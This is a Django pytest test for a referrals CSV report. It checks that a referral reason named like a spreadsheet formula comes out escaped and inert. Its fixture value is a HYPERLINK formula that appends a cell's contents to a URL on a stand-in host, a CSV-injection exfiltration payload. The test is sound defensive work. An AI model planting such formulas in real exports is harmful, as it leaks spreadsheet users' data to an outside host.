"""report.csv: a reason named like a formula comes out inert."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from ginnel.referrals.models import ReferralReason
from ginnel.referrals.tests import test_reports as worked

town = worked.town
pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


def test_a_reason_named_like_a_formula_is_inert_in_the_report(town, client_for, coordinator):
    ReferralReason.objects.filter(community=town.community).update(label=FORMULA)

    response = client_for(coordinator).get(
        reverse("referrals:report_csv", args=[town.community.slug]), {"start": "2026-03"}
    )

    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert "'" + FORMULA in cells
    assert not any(c.startswith("=") for c in cells)
